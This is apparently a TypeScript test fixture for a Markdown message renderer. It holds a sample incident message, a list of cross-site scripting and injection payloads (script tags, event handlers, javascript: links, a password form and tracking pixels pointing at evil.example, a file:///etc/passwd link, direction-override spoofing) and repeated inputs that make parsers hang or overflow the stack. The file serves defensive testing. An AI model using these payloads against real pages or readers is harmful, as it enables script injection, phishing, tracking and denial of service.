/** A Markdown text with every element that messages support. */
export const RICH = `We found the cause: the primary database ran out of **disk space**, and _writes_ fail with \`ENOSPC\`.

### What we are doing

1. Adding a volume of 2 TiB
2. Moving the oldest partitions
   - \`events_2024\`
   - \`events_2025\`
3. Watching [the dashboard](https://grafana.acme.example/d/db?from=now-1h&to=now)

> Reads are not affected.

| Region | Reads | Writes |
| --- | --- | --- |
| Frankfurt | fine | failing |
| Virginia | fine | ~~failing~~ fine |

\`\`\`sh
curl -sS https://api.acme.example/health
\`\`\`

Questions: support@acme.example or https://acme.example/support.`;

/** Texts with which the author of a page could attack its readers. None of these attacks may work. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script in a paragraph': 'a <script>alert(1)</script> b',
  'event handler': '<img src=x onerror=alert(1)> <svg/onload=alert(1)>',
  style: '<style>*{display:none}</style> <p style="position:fixed">x</p>',
  'linked style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  pixel: '![](https://evil.example/pixel.gif?who=1)',
  'pixel as HTML': '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  form: '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  'javascript link': '[press](javascript:alert(1)) [press](JaVaScRiPt:alert(1)) [press](java\tscript:alert(1))',
  'javascript link in entities': '[press](&#106;avascript:alert(1)) [press](javascript&colon;alert(1))',
  'javascript in angle brackets': '<javascript:alert(1)>',
  'javascript by reference': '[press][x]\n\n[x]: javascript:alert(1)',
  'data link': '[press](data:text/html;base64,PHNjcmlwdD4=) [press](vbscript:x) [press](file:///etc/passwd)',
  'relative link': '[press](/login) [press](//evil.example) [press](?x) [press](#x)',
  'credentials in a link': '[press](https://bank.example@evil.example/)',
  'quote in a link': '[press](https://evil.example/"onmouseover="alert(1)) [press](<https://evil.example/ "x">)',
  'title of a link': '[press](https://evil.example/ "\\" onmouseover=\\"alert(1)")',
  'image of javascript': '![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  'link in a link': '[a [b](https://evil.example/2) ![c](https://evil.example/3.gif)](https://evil.example/1)',
  comment: '<!-- --><!--><script>alert(1)</script>-->',
  'conditional comment': '<!--[if mso]><v:rect href="https://evil.example"></v:rect><![endif]-->',
  'unfinished tag': '<a href="https://evil.example" x="',
  'end of what surrounds it': '</div></td></table></body></html><h1>x</h1>',
  'language of code': '```"><script>alert(1)</script>\nx\n```',
  'start of a list': '1"onclick="alert(1). x',
  'direction turned': 'pay \u202egpj.exe\u202c and \u2066x\u2069 and &#x202e;y&#8238;z',
  'control characters': 'a\0b\u0001c\u0008d\u001be\u0085f\u009bg &#1; &#0; &#x80;',
  'half a pair': 'a\ud800b\udc00c \uffff',
  'task list': '- [x] done\n- [ ] open',
  footnote: '[^1]: <script>alert(1)</script>',
};

const LENGTH = 25_000;
const repeated = (text: string): string => text.repeat(Math.ceil(LENGTH / text.length)).slice(0, LENGTH);

/**
 * Pieces that, when repeated, are known to make Markdown parsers take quadratic time or overflow the stack, including
 * those of CommonMark's own tests (commonmark.js: test/test.js).
 */
export const PIECES: readonly string[] = [
  ...['>', '> ', '- ', '1. ', '> - ', '- > ', '+ ', '[', '[a](', '![', '[](', '*', '*a ', '*a_', '_a ', '**a *'],
  ...['__a_', 'a**b*c ', '`', '<', '<a ', '<!--', '<![CDATA[', '<?', '~~a ', '~a~~', '|', 'a@', 'aaaa', '\\', '\t'],
  ...['&', '&#', '#', 'http://', 'www.', '(', '```\n', '<div>', '> a\nb\n', '* a\n', '[a]: x\n', '*_[`', ' \n'],
  // Pieces with lines that continue the first item of a list.
  ...['- a\nb', '- )\na', '- _\n)', '1) a\n', 'a\n', '-\n', '=\n', '***\n', 'a | b\n- | -\n', '|a\n|-\n'],
  // Pieces from the tests of CommonMark.
  ...[
    'a**b',
    '*a **a ',
    'a_ ',
    '[a](<b',
    '[a](b',
    'a <!A ',
    'a <? ',
    '[a]: <b\n',
    '[a]: b "c\n',
    '[a] (b "',
    "[a](b '",
  ],
  ...[
    '![[]()',
    '&a',
    '~',
    'a@b.c ',
    'https://a.b/( ',
    '[a][',
    '*a*',
    '***a***',
    '漢',
    '[a](https://漢',
    '\u0001',
    '&#1;',
  ],
];

/**
 * Pieces whose repetitions are extreme in one way: they are among the slowest to parse, write, segment or wrap, or each
 * character takes six bytes in JSON, three bytes in UTF-8, or no width.
 */
export const HARDEST: readonly string[] = [
  ...['- a\nb', '- )\na', '- _\n)', '> a\n- b\n', '|a\n|-\n', '*a_ ', '[a](b', '***a***', 'https://a.b/ ', 'a@b.c '],
  ...['\u0001', '漢', '\u0301', '👍', '👨‍👩‍👧‍👦', '&', '"', ' ', 'W', '\n'],
];

/** Texts that are known to make Markdown parsers take seconds or overflow the stack. */
export const PATHOLOGICAL: Readonly<Record<string, string>> = Object.fromEntries(
  PIECES.map((text): [string, string] => [JSON.stringify(text), repeated(text)]).concat([
    ['an address without an end', `${repeated('aaaa')}@`],
    ['blanks between words', `a${repeated(' ')}b`],
    ['links in links', `${'['.repeat(8_000)}a${'](b)'.repeat(4_000)}`],
    ['images in images', `${'!['.repeat(4_000)}a${'](b)'.repeat(4_000)}`],
    ['emphasis in emphasis', `${'*a '.repeat(5_000)}${'a*'.repeat(5_000)}`],
    ['ticks of all lengths', Array.from({ length: 220 }, (_, index) => `${'`'.repeat(index)}a`).join('')],
    ['a wide table', `${'|a'.repeat(6_000)}|\n${'|-'.repeat(6_000)}|\n`],
    ['lists in lists', Array.from({ length: 220 }, (_, index) => `${' '.repeat(index)}- a`).join('\n')],
  ]),
);
